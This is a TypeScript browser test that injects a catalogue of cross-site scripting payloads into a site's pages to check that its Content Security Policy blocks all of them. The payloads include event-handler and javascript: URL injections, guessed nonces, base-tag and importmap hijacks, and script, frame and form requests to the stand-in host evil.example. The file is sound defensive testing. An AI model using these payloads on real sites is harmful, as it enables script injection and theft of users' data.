import type { Browser, Page, Route } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { address } from '../../src/routes.ts'
import { launchBrowser } from '../fixtures/browser.ts'
import { startRealSite, type RealSite, type SamplePerson } from '../fixtures/real-site.ts'

/**
 * Should text that means harm ever reach a page as it is, the browser is the last that may refuse it. Here it reaches every kind of page, put in on
 * the way, with the policy that the site sent.
 */
const evil = 'https://evil.example'

/** What runs says so; what asks another site is seen to; what is pressed is pressed below. */
const planted = `
  <script>window.ran = 'inline'</script>
  <script nonce="">window.ran = 'empty nonce'</script>
  <script nonce="00000000000000000000000000000000">window.ran = 'guessed nonce'</script>
  <script type="module">window.ran = 'module'</script>
  <script src="${evil}/script.js"></script>
  <script src="data:text/javascript,window.ran='data'"></script>
  <script src="/api/search?q=window.ran"></script>
  <script type="importmap">{"imports":{"/enhance/":"${evil}/"}}</script>
  <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculated"]}]}</script>
  <img src="/no-such-picture" onerror="window.ran = 'onerror'" alt="">
  <svg onload="window.ran = 'onload'"><animate onbegin="window.ran = 'onbegin'" attributeName="x" dur="1s"></animate></svg>
  <details open ontoggle="window.ran = 'ontoggle'">x</details>
  <iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
  <iframe src="javascript:parent.ran = 'frame'"></iframe>
  <iframe src="data:text/html,<script>parent.postMessage('data frame', '*')</script>"></iframe>
  <iframe src="${evil}/frame"></iframe>
  <object data="${evil}/object"></object>
  <embed src="${evil}/embed">
  <base href="${evil}/">
  <link rel="stylesheet" href="${evil}/style.css">
  <link rel="prefetch" href="${evil}/prefetch">
  <link rel="modulepreload" href="${evil}/module.js">
  <style>@import '${evil}/imported.css'; body { background: url(${evil}/background) !important }</style>
  <p style="background: url(${evil}/attribute)">x</p>
  <img src="${evil}/picture" alt=""><video src="${evil}/video" poster="${evil}/poster"></video><audio src="${evil}/audio" autoplay></audio>
  <a id="planted-link" href="javascript:window.ran = 'link'">x</a>
  <form action="${evil}/form" method="post"><button id="planted-form" name="told" value="1">x</button></form>
  <form action="javascript:window.ran = 'form'"><button id="planted-script-form">x</button></form>`

let site: RealSite
let browser: Browser
beforeAll(async () => {
  site = await startRealSite()
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

/** A page with what was planted in it: what ran, and which addresses of the other site were asked for. */
async function visit(path: string, as: SamplePerson | undefined, { policy }: { policy: boolean }) {
  const context = await browser.newContext({ reducedMotion: 'reduce' })
  const page = await context.newPage()
  try {
    if (as) {
      const [name, value] = (await site.cookieOf(as)).split('=')
      await context.addCookies([{ name, value, url: site.origin }])
    }
    const asked: string[] = []
    await context.route(`${evil}/**`, (route) => {
      asked.push(new URL(route.request().url()).pathname)
      return route.fulfill({ contentType: 'text/javascript', body: "window.ran = 'elsewhere'" })
    })
    await page.route(
      (url) => url.href === site.origin + path,
      (route) => plant(route, policy),
    )
    // What a frame says is heard from the start.
    await page.addInitScript(() => addEventListener('message', ({ data }) => data === 'data frame' && Object.assign(window, { ran: data })))
    await page.goto(site.origin + path, { waitUntil: 'load' })
    // Without a policy each of these leads away.
    if (policy) for (const id of ['planted-link', 'planted-script-form', 'planted-form']) await press(page, id)
    return { ran: await page.evaluate(() => (window as { ran?: string }).ran), asked, at: new URL(page.url()).pathname }
  } finally {
    await context.close()
  }
}

async function plant(route: Route, policy: boolean): Promise<void> {
  const response = await route.fetch()
  const headers = response.headers()
  if (!policy) delete headers['content-security-policy']
  const body = (await response.text()).replace(/<body[^>]*>/, (opened) => opened + planted)
  expect(body).toContain('planted-form')
  await route.fulfill({ response, headers, body })
}

/** As a script of the page would, whatever lies over it. A form that is sent has been sent when the page was asked once more. */
async function press(page: Page, id: string) {
  await page.evaluate((which) => document.getElementById(which)?.click(), id)
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)))
}

const everyKind: [string, SamplePerson | undefined][] = [
  [address.home, undefined],
  [address.chooser, undefined],
  [address.findAnAgent, undefined],
  [address.quote, undefined],
  [address.login, undefined],
  ['/search?q=hail', undefined],
  ['/no-such-page', undefined],
  [address.home, 'customer'],
  [address.agentHub, 'agent'],
  [address.home, 'admin'],
  [address.inbox, 'admin'],
  [address.blogEditor, 'admin'],
  [address.insights, 'admin'],
]

it('sees what it would see without a policy', async () => {
  const { ran, asked } = await visit(address.home, undefined, { policy: false })
  expect(ran).toBeTruthy()
  expect(asked).toEqual(expect.arrayContaining(['/script.js', '/style.css', '/background', '/picture', '/frame', '/object']))
})

it.each(everyKind)('nothing planted in %s runs or asks another site, for %s', async (path, as) => {
  expect(await visit(path, as, { policy: true })).toEqual({ ran: undefined, asked: [], at: new URL(path, site.origin).pathname })
})
